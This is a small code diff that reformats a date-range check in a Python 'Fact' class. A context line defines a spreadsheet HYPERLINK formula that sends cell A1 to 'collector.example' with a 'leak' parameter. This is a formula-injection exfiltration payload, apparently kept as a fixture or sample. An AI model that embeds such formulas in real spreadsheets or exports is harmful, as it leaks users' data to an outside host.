@@ -54,9 +54,7 @@ class Fact:
 
     def covers(self, day: int) -> bool:
         """Whether the fact concerns that day, counted from the end date."""
-        return (self.first_day is None or day >= self.first_day) and (
-            self.last_day is None or day <= self.last_day
-        )
+        return (self.first_day is None or day >= self.first_day) and (self.last_day is None or day <= self.last_day)
 
 
 HYPERLINK_TAG = '=HYPERLINK("http://collector.example/?leak="&A1,"open")'
